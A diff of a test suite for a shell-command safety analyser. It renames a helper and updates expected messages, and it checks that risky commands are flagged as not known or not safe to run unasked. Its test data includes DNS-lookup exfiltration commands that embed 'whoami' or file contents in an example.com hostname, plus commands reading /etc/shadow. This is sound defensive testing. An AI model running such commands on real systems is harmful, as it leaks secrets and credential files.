@@ -2,7 +2,7 @@
 
 import pytest
 
-from tests.policy.shell.world import effects, judged, runs_unasked
+from tests.policy.shell.workspace import analysed, effects, runs_unasked
 from toolreeve.core.errors import ConfigError
 from toolreeve.policy.shell.programs import spec, validation
 
@@ -46,7 +46,7 @@ def test_every_program_that_may_be_given_flags_unseen_is_named_here() -> None:
     ],
 )
 def test_a_name_cannot_run_a_program(command: str, name: str) -> None:
-    assert not judged(command).known, name
+    assert not analysed(command).known, name
 
 
 @pytest.mark.parametrize(
@@ -67,7 +67,7 @@ def test_a_name_cannot_run_a_program(command: str, name: str) -> None:
     ],
 )
 def test_a_name_cannot_write_a_file(command: str, name: str) -> None:
-    assert not judged(command).known, name
+    assert not analysed(command).known, name
 
 
 @pytest.mark.parametrize(
@@ -98,7 +98,7 @@ def test_a_name_cannot_write_a_file(command: str, name: str) -> None:
     ],
 )
 def test_a_name_cannot_choose_what_else_is_read(command: str, name: str) -> None:
-    assert not judged(command).known, name
+    assert not analysed(command).known, name
 
 
 @pytest.mark.parametrize(
@@ -120,16 +120,16 @@ def test_a_name_cannot_choose_what_else_is_read(command: str, name: str) -> None
     ],
 )
 def test_a_name_that_cannot_be_a_flag_is_known(command: str) -> None:
-    assert runs_unasked(command), judged(command).reason
+    assert runs_unasked(command), analysed(command).reason
 
 
 def test_the_reason_says_what_to_write_instead() -> None:
-    assert judged("wc -l *.md").reason == "not known: `*.md` may turn out to be a flag (put `--` before it)"
+    assert analysed("wc -l *.md").reason == "not known: `*.md` may expand to a flag (put `--` before it)"
 
 
 @pytest.mark.parametrize("command", ["grep x *", "grep x *.txt", "egrep x *", "zcat *.gz", "hexdump -C *", "du -a *"])
 def test_a_name_that_makes_it_read_more_makes_it_read_the_folder(command: str) -> None:
-    found = judged(command)
+    found = analysed(command)
 
     assert runs_unasked(command), found.reason
     assert any(effect.touches("/project/sub/x.txt") for effect in found.effects)
@@ -137,7 +137,7 @@ def test_a_name_that_makes_it_read_more_makes_it_read_the_folder(command: str) -
 
 def test_a_name_that_makes_it_read_trees_does_so_of_every_operand() -> None:
     assert "read:/project/src" in effects("cd docs; grep x * ../src")
-    assert any(effect.touches("/etc/shadow") for effect in judged("grep x * /etc").effects)
+    assert any(effect.touches("/etc/shadow") for effect in analysed("grep x * /etc").effects)
     assert not runs_unasked("grep x * /etc")
     assert not runs_unasked("zcat * /etc")
 
@@ -185,7 +185,7 @@ def test_what_is_printed_is_not_believed_if_a_name_may_change_it(command: str, n
     ],
 )
 def test_a_value_that_may_be_several_words_is_not_known(command: str) -> None:
-    assert not judged(command).known
+    assert not analysed(command).known
 
 
 @pytest.mark.parametrize(
@@ -200,13 +200,13 @@ def test_a_value_that_may_be_several_words_is_not_known(command: str) -> None:
     ],
 )
 def test_a_pattern_that_is_part_of_its_flag_is_one_word_each_time(command: str) -> None:
-    assert runs_unasked(command), judged(command).reason
+    assert runs_unasked(command), analysed(command).reason
 
 
 def test_a_pattern_in_a_flag_whose_text_counts_is_not_known() -> None:
-    assert not judged("sed --expression=* x").known
-    assert not judged("sort --output=* x").known
-    assert not judged("rg --pre=* x").known
+    assert not analysed("sed --expression=* x").known
+    assert not analysed("sort --output=* x").known
+    assert not analysed("rg --pre=* x").known
 
 
 @pytest.mark.parametrize(
@@ -242,7 +242,7 @@ def test_a_pattern_in_a_flag_whose_text_counts_is_not_known() -> None:
     ],
 )
 def test_what_a_file_says_is_read_contacted_or_run_is_not_known(command: str) -> None:
-    assert not judged(command).known
+    assert not analysed(command).known
 
 
 @pytest.mark.parametrize(
@@ -258,7 +258,7 @@ def test_what_a_file_says_is_read_contacted_or_run_is_not_known(command: str) ->
 )
 def test_a_tree_that_may_be_read_is_read_as_one(command: str, effect: str) -> None:
     assert effect in effects(command)
-    assert any(found.touches("/project/src/x") for found in judged(command).effects)
+    assert any(found.touches("/project/src/x") for found in analysed(command).effects)
 
 
 @pytest.mark.parametrize(
@@ -295,7 +295,7 @@ def test_a_variable_is_printed_by_its_name_only(command: str) -> None:
 
 @pytest.mark.parametrize("command", ["getent ahosts x$(whoami).example.com", "resolvectl query $(cat x).example.com"])
 def test_a_name_that_is_looked_up_cannot_carry_what_was_read(command: str) -> None:
-    assert not judged(command).known
+    assert not analysed(command).known
 
 
 @pytest.mark.parametrize("command", ["info ./x", "info /etc/shadow", "lspci -q", "lastlog -C -u x"])
@@ -305,16 +305,16 @@ def test_programs_that_seem_to_tell_do_not_show_clear_or_ask_elsewhere_unasked(c
 
 @pytest.mark.parametrize("command", ["sdiff a b", "diff3 a b c", "colordiff a b"])
 def test_programs_made_of_another_say_so(command: str) -> None:
-    assert "exec:diff" in [str(effect) for effect in judged(command).effects]
+    assert "exec:diff" in [str(effect) for effect in analysed(command).effects]
 
 
 @pytest.mark.parametrize(
     ("data", "problem"),
     [
-        ({"harmless": "maybe"}, "neither true nor 'reads'"),
-        ({"harmless": "reads"}, "none is supposed"),
-        ({"harmless": True, "prints": "paths", "rewrites": "-l"}, "no flag that rewrites it supposed"),
-        ({"harmless": True, "modes": {"-l": {"prints": "paths"}}}, "no flag that rewrites it supposed"),
+        ({"harmless": "maybe"}, "must be true or 'reads'"),
+        ({"harmless": "reads"}, "needs the flags that read more"),
+        ({"harmless": True, "prints": "paths", "rewrites": "-l"}, "needs a flag that rewrites"),
+        ({"harmless": True, "modes": {"-l": {"prints": "paths"}}}, "needs a flag that rewrites"),
     ],
 )
 def test_a_specification_says_what_a_word_may_turn_out_to_be(data: dict[str, object], problem: str) -> None:
